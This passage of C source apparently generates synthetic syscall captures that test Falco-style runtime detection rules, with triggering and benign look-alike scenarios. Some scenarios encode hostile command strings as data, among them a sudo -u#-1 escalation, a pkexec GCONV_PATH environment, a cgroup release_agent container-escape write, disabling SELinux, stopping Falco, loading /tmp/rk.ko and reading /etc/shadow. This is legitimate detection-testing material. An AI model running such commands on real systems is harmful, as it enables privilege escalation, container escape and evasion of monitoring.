	struct pr ua = child(&dpkg, 2, "useradd", "/usr/sbin/useradd", "--system|_chrony");
	spawn(&dpkg, &ua);
}

static void s_sudo_t(void) { searcher("sudo", "/usr/bin/sudo", "-u#-1|/bin/bash"); }
static void s_sudo_b(void) { searcher("sudo", "/usr/bin/sudo", "-u|alice|id"); }

static void pkexec(const char *env)
{
	host_tree();
	struct pr p = child(&UBASH, 1, "pkexec", "/usr/bin/pkexec", "/usr/bin/true");
	p.env = env;
	spawn(&UBASH, &p);
}
static void s_pkexec_t(void) { pkexec("PATH=GCONV_PATH=.|GCONV_PATH=./lol|CHARSET=X"); }
static void s_pkexec_b(void) { pkexec("PATH=/usr/bin:/bin|HOME=/home/alice|LANG=C.UTF-8"); }

static void tracer(const char *comm, const char *exe, int req)
{
	host_tree();
	struct pr p = child(&BASH, 1, comm, exe, "");
	spawn(&BASH, &p);
	sys_ptrace(p.tid, req, BASH.tid);
}
static void s_ptrace_t(void) { tracer("python3", "/usr/bin/python3", PT_ATTACH); }
/* LeakSanitizer at the exit of an ASan build: a clone of the process (same program) attaches
 * to the threads of its parent to stop the world while it scans for leaks. */
static void s_ptrace_lsan_b(void)
{
	host_tree();
	struct pr p = child(&BASH, 1, "test_vm", "/work/proj/build-asan/test_vm", "");
	spawn(&BASH, &p);
	struct pr t = child(&p, 2, "test_vm", "/work/proj/build-asan/test_vm", "");
	spawn(&p, &t);
	sys_ptrace(t.tid, PT_ATTACH, p.tid);
}
static void s_ptrace_b(void) { tracer("gdb", "/usr/bin/gdb", PT_ATTACH); }
static void s_ptrace_peek_b(void) { tracer("python3", "/usr/bin/python3", PT_PEEKDATA); }

static void traceme(const struct pr *parent)
{
	struct pr p = child(parent, 2, "crackme", "/opt/crackme", "");
	spawn(parent, &p);
	sys_ptrace(p.tid, PT_TRACEME, 0);
}
static void s_traceme_t(void) { host_tree(); traceme(&BASH); }

static void s_traceme_b(void)
{
	host_tree();
	struct pr gdb = child(&BASH, 1, "gdb", "/usr/bin/gdb", "/opt/crackme");
	spawn(&BASH, &gdb);
	traceme(&gdb);
}

static void s_sectool_t(void) { searcher("setenforce", "/usr/sbin/setenforce", "0"); }
static void s_sectool_b(void) { searcher("setenforce", "/usr/sbin/setenforce", "1"); }
static void s_sectool_svc_t(void) { searcher("systemctl", "/usr/bin/systemctl", "stop|falco"); }
static void s_sectool_svc_b(void) { searcher("systemctl", "/usr/bin/systemctl", "status|falco"); }

/* kernel and container boundary --------------------------------------------- */

static void ctr_start(const char *image, bool privileged, const char *mounts)
{
	ctr_tree(image, privileged, mounts);
	/* the entry point of a new container: its parent is the shim */
	struct pr p = child(&SHIM, 1, "nginx", "/usr/sbin/nginx", "-g|daemon off;");
	p.ctr = true;
	p.vpid = 1;
	p.caps = privileged ? CAPS_ROOT : CAPS_DOCKER;
	spawn(&SHIM, &p);
}
static void s_privileged_t(void) { ctr_start("docker.io/library/nginx", true, NULL); }
static void s_privileged_b(void) { ctr_start("docker.io/falcosecurity/falco", true, NULL); }

#define MOUNT(dst) "{\"Source\":\"" dst "\",\"Destination\":\"" dst "\",\"Mode\":\"\",\"RW\":true,\"Propagation\":\"rprivate\"}"
static void s_sensmount_t(void) { ctr_start("docker.io/library/nginx", false, MOUNT("/var/run/docker.sock")); }
static void s_sensmount_b(void) { ctr_start("docker.io/library/nginx", false, MOUNT("/srv/www")); }

static void pkgmgr_ctr(const char *image)
{
	ctr_tree(image, false, NULL);
	struct pr p = child(&CSH, 1, "apt-get", "/usr/bin/apt-get", "install|-y|nmap");
	spawn(&CSH, &p);
}
static void s_pkgctr_t(void) { pkgmgr_ctr("docker.io/library/nginx"); }
static void s_pkgctr_b(void) { pkgmgr_ctr("docker.io/library/golang"); }
/* apt's own query of dpkg in a container (apt-cache, apt-get update): nothing is installed. */
static void s_pkgctr_query_b(void)
{
	ctr_tree("docker.io/library/nginx", false, NULL);
	struct pr p = child(&CSH, 1, "dpkg", "/usr/bin/dpkg", "--print-foreign-architectures");
	spawn(&CSH, &p);
}

static void setnser(const char *comm, const char *exe)
{
	host_tree();
	struct pr p = child(&BASH, 1, comm, exe, "-t|1|-m");
	spawn(&BASH, &p);
	sys_open(p.tid, 3, "/proc/1/ns/mnt", O_R);
	sys_setns(p.tid, 3, CL_NEWNS);
}
static void s_setns_t(void) { setnser("nsenter", "/usr/bin/nsenter"); }
static void s_setns_b(void) { setnser("runc", "/usr/bin/runc"); }

static void unsharer(const struct pr *parent, uint32_t flags)
{
	host_tree();
	struct pr p = child(parent, 1, "unshare", "/usr/bin/unshare", "-U|-r|sh");
	spawn(parent, &p);
	sys_unshare(p.tid, flags);
}
static void s_userns_t(void) { unsharer(&UBASH, CL_NEWUSER); }
static void s_userns_b(void) { unsharer(&UBASH, CL_NEWNET); }
static void s_userns_ctr_t(void)
{
	ctr_tree_plain();
	struct pr p = child(&CSH, 1, "unshare", "/usr/bin/unshare", "-U|-r|sh");
	spawn(&CSH, &p);
	sys_unshare(p.tid, CL_NEWUSER | CL_NEWNS);
}

static void release_agent(bool in_ctr)
{
	struct pr p;
	if (in_ctr) {
		ctr_tree("docker.io/library/ubuntu", true, NULL);
		p = child(&CSH, 1, "sh", "/bin/sh", "-c|echo /x > /sys/fs/cgroup/rdma/release_agent");
		p.caps = CAPS_ROOT;
		spawn(&CSH, &p);
	} else {
		host_tree();
		p = child(&BASH, 1, "sh", "/bin/sh", "-c|echo /x > /sys/fs/cgroup/rdma/release_agent");
		spawn(&BASH, &p);
	}
	sys_open(p.tid, 3, "/sys/fs/cgroup/rdma/release_agent", O_W | O_TR);
}
static void s_release_t(void) { release_agent(true); }
static void s_release_b(void) { release_agent(false); }

static void ctr_tool(bool privileged, const char *comm, const char *exe, const char *args)
{
	ctr_tree("docker.io/library/ubuntu", privileged, NULL);
	struct pr p = child(&CSH, 1, comm, exe, args);
	p.caps = privileged ? CAPS_ROOT : CAPS_DOCKER;
	spawn(&CSH, &p);
}
static void s_debugfs_t(void) { ctr_tool(true, "debugfs", "/sbin/debugfs", "/dev/sda1"); }
static void s_debugfs_b(void) { ctr_tool(false, "debugfs", "/sbin/debugfs", "/dev/sda1"); }
static void s_mount_t(void) { ctr_tool(true, "mount", "/bin/mount", "/dev/sda1|/mnt"); }
static void s_mount_b(void) { ctr_tool(true, "mount", "/bin/mount", ""); }

static void s_kmod_t(void)
{
	host_tree();
	struct pr p = child(&BASH, 1, "python3", "/usr/bin/python3", "load.py");
	spawn(&BASH, &p);
	sys_init_module(p.tid);
}

static void s_kmod_b(void)
{
	host_tree();
	struct pr p = child(&BASH, 1, "modprobe", "/usr/sbin/modprobe", "overlay");
	spawn(&BASH, &p);
	sys_open(p.tid, 3, "/lib/modules/6.1.0/kernel/fs/overlayfs/overlay.ko", O_R);
	sys_finit_module(p.tid, 3);
}

static void s_insmod_t(void) { searcher("insmod", "/usr/sbin/insmod", "/tmp/rk.ko"); }

static void s_insmod_b(void)
{
	host_tree();
	struct pr dkms = child(&BASH, 1, "dkms", "/usr/sbin/dkms", "install|zfs/2.1");
	spawn(&BASH, &dkms);
	struct pr p = child(&dkms, 2, "insmod", "/usr/sbin/insmod", "/lib/modules/6.1.0/updates/dkms/zfs.ko");
	spawn(&dkms, &p);
}

static void bpfer(const char *comm, const char *exe, int cmd)
{
	host_tree();
	struct pr p = child(&BASH, 1, comm, exe, "");
	spawn(&BASH, &p);
	sys_bpf(p.tid, 5, cmd);
}
static void s_bpf_t(void) { bpfer("python3", "/usr/bin/python3", BPF_PROGL); }
static void s_bpf_b(void) { bpfer("bpftool", "/usr/sbin/bpftool", BPF_PROGL); }
static void s_bpf_map_b(void) { bpfer("python3", "/usr/bin/python3", BPF_MAPC); }

/* ------------------------------------------------------------------ the list */

#define INBOUND "Inbound Connection from Public Network in Container"

/* NAME, the rule it is about, whether it must trigger that rule (and nothing else) or must
 * trigger nothing (a benign look-alike), extra falcod arguments. */
static const struct scen {
	const char *name, *rule;
	bool trigger;
	const char *args;
	void (*fn)(void);
} scens[] = {
	{"terminal_shell.trigger", RULE_TERMINAL, true, "", s_terminal_shell_t},
	{"terminal_shell.benign", RULE_TERMINAL, false, "", s_terminal_shell_b},
	{"shell_untrusted.trigger", RULE_UNTRUSTED, true, "", s_shell_untrusted_t},
	{"shell_untrusted.benign", RULE_UNTRUSTED, false, "", s_shell_untrusted_b},
	{"netcat_rce.trigger", "Netcat Remote Code Execution", true, "", s_netcat_t},
	{"netcat_rce.benign", "Netcat Remote Code Execution", false, "", s_netcat_b},
	{"redirect_stdio.trigger", "Redirect STDOUT or STDIN to Network Connection", true, "", s_redirect_t},
	{"redirect_stdio.benign", "Redirect STDOUT or STDIN to Network Connection", false, "", s_redirect_b},
	{"tmp_exec.trigger", "Execution from Temporary Directory", true, "", s_tmp_exec_t},
	{"tmp_exec.benign", "Execution from Temporary Directory", false, "", s_tmp_exec_b},
	{"drop_exec.trigger", "Drop and Execute New Binary in Container", true, "", s_drop_exec_t},
	{"drop_exec.benign", "Drop and Execute New Binary in Container", false, "", s_drop_exec_b},
	{"memfd_exec.trigger", "Fileless Execution via memfd_create", true, "", s_memfd_exec_t},
	{"memfd_net.trigger", "Fileless Execution via memfd_create", true, "", s_memfd_net_t},
	{"memfd.benign", "Fileless Execution via memfd_create", false, "", s_memfd_b},
	{"payload_write.trigger", "Executable Payload Written to Temporary Directory", true, "", s_payload_t},
	{"payload_write.benign", "Executable Payload Written to Temporary Directory", false, "", s_payload_b},
	{"payload_write.benign_as", "Executable Payload Written to Temporary Directory", false, "", s_payload_as_b},
	{"read_shadow.trigger", "Read Sensitive File Untrusted", true, "", s_shadow_t},
	{"read_shadow_old_sshd.trigger", "Read Sensitive File Untrusted", true, "", s_shadow_old_sshd_t},
	{"read_shadow.benign", "Read Sensitive File Untrusted", false, "", s_shadow_b},
	{"search_keys.trigger", "Search Private Keys or Passwords", true, "", s_search_keys_t},
	{"search_keys.benign", "Search Private Keys or Passwords", false, "", s_search_keys_b},
	{"aws_creds.trigger", "Find AWS Credentials", true, "", s_aws_t},
	{"aws_creds.benign", "Find AWS Credentials", false, "", s_aws_b},
	{"read_ssh.trigger", "Read SSH Information", true, "", s_ssh_read_t},
	{"read_ssh.benign", "Read SSH Information", false, "", s_ssh_read_b},
	{"packet_socket.trigger", "Packet Socket Created in Container", true, "", s_packet_t},
	{"packet_socket.benign", "Packet Socket Created in Container", false, "", s_packet_b},
	{"write_etc.trigger", "Write Below Etc", true, "", s_etc_t},
	{"write_etc.benign", "Write Below Etc", false, "", s_etc_b},
	{"write_bindir.trigger", "Write Below Binary Dir", true, "", s_bindir_t},
	{"write_bindir.benign", "Write Below Binary Dir", false, "", s_bindir_b},
	{"write_root.trigger", "Write Below Root", true, "", s_root_t},
	{"write_root.benign", "Write Below Root", false, "", s_root_b},
	{"write_root.benign_perf", "Write Below Root", false, "", s_root_perf_b},
	{"write_pkgdb.trigger", "Write Below Package Database", true, "", s_pkgdb_t},
	{"write_pkgdb.benign", "Write Below Package Database", false, "", s_pkgdb_b},
	{"sensitive_dir_mkdir.trigger", "Modify Sensitive Directory Structure", true, "", s_sensdir_t},
	{"sensitive_dir_rm.trigger", "Modify Sensitive Directory Structure", true, "", s_sensdir_rm_t},
	{"sensitive_dir.benign", "Modify Sensitive Directory Structure", false, "", s_sensdir_b},
	{"shell_config.trigger", "Modify Shell Configuration File", true, "", s_shellcfg_t},
	{"shell_config.benign", "Modify Shell Configuration File", false, "", s_shellcfg_b},
	{"clear_log.trigger", "Clear Log Activities", true, "", s_clearlog_t},
	{"clear_log.benign", "Clear Log Activities", false, "", s_clearlog_b},
	{"clear_log.benign_build", "Clear Log Activities", false, "", s_clearlog_build_b},
	{"history_rm.trigger", "Delete or Truncate Shell History", true, "", s_history_t},
	{"history_trunc.trigger", "Delete or Truncate Shell History", true, "", s_history_trunc_t},
	{"history.benign", "Delete or Truncate Shell History", false, "", s_history_b},
	{"symlink_sensitive.trigger", "Create Symlink Over Sensitive Files", true, "", s_symlink_t},
	{"symlink_sensitive.benign", "Create Symlink Over Sensitive Files", false, "", s_symlink_b},
	{"hardlink_sensitive.trigger", "Create Hardlink Over Sensitive Files", true, "", s_hardlink_t},
	{"hardlink_sensitive.benign", "Create Hardlink Over Sensitive Files", false, "", s_hardlink_b},
	{"hidden_dir.trigger", "Create Hidden Files or Directories", true, "", s_hidden_t},
	{"hidden_file.trigger", "Create Hidden Files or Directories", true, "", s_hidden_file_t},
	{"hidden.benign", "Create Hidden Files or Directories", false, "", s_hidden_b},
	{"setuid.trigger", "Set Setuid or Setgid Bit", true, "", s_setuid_t},
	{"setuid.benign", "Set Setuid or Setgid Bit", false, "", s_setuid_b},
	{"c2_port.trigger", "Outbound Connection to C2 Server Ports", true, "", s_c2_t},
	{"c2_port_container.trigger", "Outbound Connection to C2 Server Ports", true, "", s_c2_ctr_t},
	{"c2_port.benign", "Outbound Connection to C2 Server Ports", false, "", s_c2_b},
	{"ssh_port.trigger", "SSH Connection to Non Standard Port", true, "", s_sshport_t},
	{"ssh_port.benign", "SSH Connection to Non Standard Port", false, "", s_sshport_b},
	{"miner_port.trigger", "Crypto Mining Activity", true, "", s_miner_t},
	{"miner_exec.trigger", "Crypto Mining Activity", true, "", s_miner_exec_t},
	{"miner.benign", "Crypto Mining Activity", false, "", s_miner_b},
	{"inbound.trigger", INBOUND, true, "--enable|" INBOUND, s_inbound_t},
	{"inbound_disabled.benign", INBOUND, false, "", s_inbound_t},
	{"inbound.benign", INBOUND, false, "--enable|" INBOUND, s_inbound_b},
	{"nettool_container.trigger", "Launch Suspicious Network Tool in Container", true, "", s_nettool_ctr_t},
	{"nettool_container.benign", "Launch Suspicious Network Tool in Container", false, "", s_nettool_ctr_b},
	{"nettool_user.trigger", "Network Tool Executed by Non-Root User", true, "", s_nettool_user_t},
	{"nettool_user.benign", "Network Tool Executed by Non-Root User", false, "", s_nettool_user_b},
	{"system_user.trigger", "System User Interactive", true, "", s_sysuser_t},
	{"system_user.benign", "System User Interactive", false, "", s_sysuser_b},
	{"user_mgmt.trigger", "User Management Binary Executed", true, "", s_usermgmt_t},
	{"user_mgmt_own_password.benign", "User Management Binary Executed", false, "", s_usermgmt_b},
	{"user_mgmt_package.benign", "User Management Binary Executed", false, "", s_usermgmt_pkg_b},
	{"sudo_exploit.trigger", "Sudo Potential Privilege Escalation", true, "", s_sudo_t},
	{"sudo_exploit.benign", "Sudo Potential Privilege Escalation", false, "", s_sudo_b},
	{"pkexec_exploit.trigger", "Polkit pkexec Environment Exploitation", true, "", s_pkexec_t},
	{"pkexec_exploit.benign", "Polkit pkexec Environment Exploitation", false, "", s_pkexec_b},
	{"ptrace_attach.trigger", "PTRACE Attached to Process", true, "", s_ptrace_t},
	{"ptrace_attach_debugger.benign", "PTRACE Attached to Process", false, "", s_ptrace_b},
	{"ptrace_peek.benign", "PTRACE Attached to Process", false, "", s_ptrace_peek_b},
	{"ptrace_lsan.benign", "PTRACE Attached to Process", false, "", s_ptrace_lsan_b},
	{"ptrace_traceme.trigger", "PTRACE Anti-Debug Attempt", true, "", s_traceme_t},
	{"ptrace_traceme.benign", "PTRACE Anti-Debug Attempt", false, "", s_traceme_b},
	{"security_tool_selinux.trigger", "Disable or Modify Security Tools", true, "", s_sectool_t},
	{"security_tool_selinux.benign", "Disable or Modify Security Tools", false, "", s_sectool_b},
	{"security_tool_service.trigger", "Disable or Modify Security Tools", true, "", s_sectool_svc_t},
	{"security_tool_service.benign", "Disable or Modify Security Tools", false, "", s_sectool_svc_b},
	{"privileged_container.trigger", "Privileged Container Started", true, "", s_privileged_t},
	{"privileged_container.benign", "Privileged Container Started", false, "", s_privileged_b},
	{"sensitive_mount.trigger", "Container with Sensitive Mount Started", true, "", s_sensmount_t},
	{"sensitive_mount.benign", "Container with Sensitive Mount Started", false, "", s_sensmount_b},
	{"pkg_mgr_container.trigger", "Launch Package Management Process in Container", true, "", s_pkgctr_t},
	{"pkg_mgr_container.benign", "Launch Package Management Process in Container", false, "", s_pkgctr_b},
	{"pkg_mgr_container.benign_query", "Launch Package Management Process in Container", false, "", s_pkgctr_query_b},
	{"setns.trigger", "Change Thread Namespace", true, "", s_setns_t},
	{"setns.benign", "Change Thread Namespace", false, "", s_setns_b},
	{"userns.trigger", "Unprivileged User Namespace Created", true, "", s_userns_t},
	{"userns_container.trigger", "Unprivileged User Namespace Created", true, "", s_userns_ctr_t},
	{"userns.benign", "Unprivileged User Namespace Created", false, "", s_userns_b},
	{"release_agent.trigger", "Detect release_agent File Container Escapes", true, "", s_release_t},
	{"release_agent.benign", "Detect release_agent File Container Escapes", false, "", s_release_b},
	{"debugfs_privileged.trigger", "Debugfs Launched in Privileged Container", true, "", s_debugfs_t},
	{"debugfs_privileged.benign", "Debugfs Launched in Privileged Container", false, "", s_debugfs_b},
	{"mount_privileged.trigger", "Mount Launched in Privileged Container", true, "", s_mount_t},
	{"mount_privileged.benign", "Mount Launched in Privileged Container", false, "", s_mount_b},
	{"kernel_module.trigger", "Kernel Module Loaded", true, "", s_kmod_t},
	{"kernel_module.benign", "Kernel Module Loaded", false, "", s_kmod_b},
	{"insmod.trigger", "Linux Kernel Module Injection via insmod", true, "", s_insmod_t},
	{"insmod.benign", "Linux Kernel Module Injection via insmod", false, "", s_insmod_b},
	{"bpf_prog.trigger", "BPF Program Loaded", true, "", s_bpf_t},
	{"bpf_prog_agent.benign", "BPF Program Loaded", false, "", s_bpf_b},
	{"bpf_map.benign", "BPF Program Loaded", false, "", s_bpf_map_b},
};

static void write_one(const struct scen *s)
{
	char path[4096], err[512];
	evv_ctx = s->name;
	snprintf(path, sizeof path, "%s/%s.scap", g_dir, s->name);
	if (fc_scapw_open(path, false, &g_w, err, sizeof err) != 0)
		die("%s", err);
	struct fc_cap_machine mi = {.present = true, .num_cpus = 2, .memory_size_bytes = 4ull << 30, .max_pid = 4194304,
				    .boot_ts_epoch = 1700000000000000000ull, .flags = 0};
	snprintf(mi.hostname, sizeof mi.hostname, "e2e-replay");
	if (fc_scapw_machine(g_w, &mi) != 0)
		die("machine info: %s", fc_scapw_error(g_w));
	g_ts = 1700000100000000000ull;
	s->fn();
	if (fc_scapw_stats(g_w)->events_refused)
		die("events refused by the writer");
	if (fc_scapw_close(g_w, err, sizeof err) != 0)
		die("%s", err);
	fprintf(g_manifest, "%s\t%s\t%s\t%s\n", s->name, s->trigger ? "trigger" : "benign", s->rule,
		*s->args ? s->args : "-");
}

/* --bulk: one capture where cat opens /etc/shadow N times (N alerts of Read Sensitive File
 * Untrusted with the default ruleset): the alert stream of the output tests. */
static int g_bulk_n;
static void s_bulk(void)
{
	host_tree();
	struct pr p = child(&BASH, 1, "cat", "/usr/bin/cat", "/etc/shadow");
	spawn(&BASH, &p);
	for (int i = 0; i < g_bulk_n; i++)
		sys_open(p.tid, 3 + i % 1000, "/etc/shadow", O_R);
}

static int bulk(const char *out, int n)
{
	char dir[4096];
	snprintf(dir, sizeof dir, "%s", out);
	char *slash = strrchr(dir, '/');
	const char *base = slash ? slash + 1 : dir;
	if (slash)
		*slash = 0;
	size_t bl = strlen(base);
	if (bl < 6 || strcmp(base + bl - 5, ".scap") != 0) {
		fputs("e2e_mkcap --bulk: the output must be a .scap file\n", stderr);
		return 2;
	}
	static char name[256];
	snprintf(name, sizeof name, "%.*s", (int)(bl - 5), base);
	g_dir = slash ? dir : ".";
	g_bulk_n = n;
	if (!(g_manifest = fopen("/dev/null", "w")))
		die("/dev/null: %s", strerror(errno));
	struct scen sc = {name, "Read Sensitive File Untrusted", true, "", s_bulk};
	write_one(&sc);
	fclose(g_manifest);
	return 0;
}

int main(int argc, char **argv)
{
	evv_ctx = "setup"; /* until the first scenario names itself */
	if (argc == 4 && !strcmp(argv[1], "--bulk")) {
		char *end;
		errno = 0;
		long n = strtol(argv[3], &end, 10);
		if (end == argv[3] || *end || errno || n < 1 || n > 10000000) {
			fprintf(stderr, "e2e_mkcap --bulk: N must be a number of alerts from 1 to 10000000, not '%s'\n",
				argv[3]);
			return 2;
		}
		return bulk(argv[2], (int)n);
	}
	if (argc != 2) {
		fputs("usage: e2e_mkcap OUTDIR | --bulk OUT.scap N\n", stderr);
		return 2;
	}
	g_dir = argv[1];
	if (mkdir(g_dir, 0755) != 0 && errno != EEXIST)
		die("mkdir %s: %s", g_dir, strerror(errno));
	char path[4096];
	snprintf(path, sizeof path, "%s/manifest.tsv", g_dir);
	if (!(g_manifest = fopen(path, "w")))
		die("%s: %s", path, strerror(errno));
	for (size_t i = 0; i < sizeof scens / sizeof scens[0]; i++)
		write_one(&scens[i]);
	if (fclose(g_manifest) != 0)
		die("%s: %s", path, strerror(errno));
	printf("%zu captures in %s\n", sizeof scens / sizeof scens[0], g_dir);
	return 0;
}
